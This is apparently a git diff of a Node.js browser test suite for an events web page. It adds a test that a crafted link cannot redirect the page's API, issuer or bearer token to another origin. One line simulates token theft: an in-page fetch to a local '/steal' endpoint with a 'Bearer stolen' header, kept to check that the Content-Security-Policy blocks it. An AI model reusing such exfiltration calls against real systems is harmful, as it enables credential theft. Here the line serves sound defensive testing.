@@ -7,10 +7,11 @@
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
 import { createServer } from "node:http";
-import { readFile, mkdir } from "node:fs/promises";
-import { extname, join, normalize } from "node:path";
+import { mkdir } from "node:fs/promises";
+import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { launchChromium } from "../chromium.mjs";
+import { createPageServer } from "../serve.mjs";
 import { loadVectors } from "./vectors.mjs";
 
 const webDir = fileURLToPath(new URL("..", import.meta.url));
@@ -20,27 +21,18 @@ const apiBase = process.env.API_BASE;
 const issuer = process.env.ISSUER;
 const CLIENT_ID = "events-web";
 const needsStack = { skip: apiBase && issuer ? false : "API_BASE and ISSUER are not set (scripts/browser-test.sh starts the stack)" };
-const types = { ".html": "text/html", ".js": "text/javascript", ".wasm": "application/wasm",
-  ".json": "application/json", ".ts": "text/plain" };
 
 let server, browser, pageUrl;
 
 before(async () => {
-  server = createServer(async (req, res) => {
-    const path = normalize(decodeURIComponent(new URL(req.url, "http://x").pathname));
-    const file = join(webDir, path === "/" ? "index.html" : path);
-    try {
-      const body = await readFile(file);
-      res.writeHead(200, { "content-type": types[extname(file)] ?? "application/octet-stream" });
-      res.end(body);
-    } catch {
-      res.writeHead(404).end();
-    }
+  // The page's own server (web/serve.mjs), with this stack's API and issuer as its settings.
+  server = createPageServer({
+    api: apiBase ?? "http://127.0.0.1:9/unused",
+    issuer: issuer ?? "http://127.0.0.1:9/unused",
+    clientId: CLIENT_ID,
   });
   await new Promise((r) => server.listen(0, "127.0.0.1", r));
-  const api = apiBase ?? "http://127.0.0.1:9/unused";
-  const query = new URLSearchParams({ api, issuer: issuer ?? "http://127.0.0.1:9/unused", client_id: CLIENT_ID });
-  pageUrl = `http://127.0.0.1:${server.address().port}/?${query}`;
+  pageUrl = `http://127.0.0.1:${server.address().port}/`;
   browser = await launchChromium();
   await mkdir(outDir, { recursive: true });
 });
@@ -50,21 +42,20 @@ after(async () => {
   server?.close();
 });
 
-async function openPage() {
+async function openPage(url = pageUrl) {
   const page = await browser.newPage();
   const requests = [];
   const errors = [];
   page.on("request", (r) => requests.push(r));
   page.on("pageerror", (e) => errors.push(e));
-  await page.goto(pageUrl);
+  await page.goto(url);
   await page.waitForSelector("body[data-ready=true]");
   page.assertNoErrors = () => assert.deepEqual(errors.map(String), [], "no script errors in the page");
   return { page, requests };
 }
 
 /** Signs in through the page, as a person would: the issuer's form, then back with a token. */
-async function signIn(page, user, { readAll = false } = {}) {
-  if (readAll) await page.check("#read-all");
+async function signIn(page, user) {
   await page.fill("#userId", user);
   await Promise.all([page.waitForURL(/\/authorize\?/), page.click("#sign-in")]);
   await page.fill("#username", user);
@@ -229,4 +220,51 @@ test("a submit that got a 503 is retried with the same Idempotency-Key and store
     assert.notEqual(keys[2], keys[0]);
     page.assertNoErrors();
     await page.close();
+  });
+
+test("a link cannot point the page, or its token, at another origin",
+  needsStack,
+  async () => {
+    // Another origin that records whatever reaches it.
+    const seen = [];
+    const elsewhere = createServer((req, res) => {
+      seen.push({ url: req.url, authorization: req.headers.authorization ?? null });
+      res.writeHead(200, { "content-type": "application/json", "access-control-allow-origin": "*" });
+      res.end("[]");
+    });
+    await new Promise((r) => elsewhere.listen(0, "127.0.0.1", r));
+    const there = `http://127.0.0.1:${elsewhere.address().port}`;
+    try {
+      const { page } = await openPage();
+      const user = `browser-link-${Date.now()}`;
+      await signIn(page, user);
+      // The crafted link: the page's own address with another API and issuer.
+      const crafted = `${pageUrl}?${new URLSearchParams({ api: there, issuer: there, client_id: "x" })}`;
+      await page.goto(crafted);
+      await page.waitForSelector("body[data-ready=true]");
+      assert.equal(await page.inputValue("#api"), apiBase, "the API is the configured one");
+      assert.equal(await page.inputValue("#issuer"), issuer);
+      await page.fill("#userId", user);
+      await page.selectOption("#eventType", "LOGIN");
+      await page.waitForFunction(() => !document.getElementById("submit").disabled);
+      await page.click("#submit");
+      await page.waitForSelector("#result[data-status='201']", { timeout: 30_000 });
+      // Even a script on the page cannot reach another origin: the policy names only these.
+      const blocked = await page.evaluate(async (url) => {
+        try {
+          await fetch(url, { headers: { authorization: "Bearer stolen" } });
+          return false;
+        } catch {
+          return true;
+        }
+      }, `${there}/steal`);
+      assert.ok(blocked, "the Content-Security-Policy let a fetch to another origin through");
+      assert.deepEqual(seen, [], "nothing reached the other origin");
+      const stored = await page.evaluate(() => Object.keys(localStorage));
+      assert.deepEqual(stored, [], "no setting from the link was kept");
+      page.assertNoErrors();
+      await page.close();
+    } finally {
+      elsewhere.close();
+    }
   });
